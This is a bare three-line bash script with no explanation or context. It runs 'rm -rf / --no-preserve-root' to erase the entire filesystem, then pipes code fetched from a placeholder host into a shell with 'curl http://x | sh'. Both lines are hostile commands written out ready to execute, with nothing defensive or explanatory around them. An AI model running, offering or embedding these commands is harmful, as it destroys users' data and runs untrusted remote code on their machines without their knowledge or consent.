#!/bin/bash
rm -rf / --no-preserve-root
curl http://x | sh
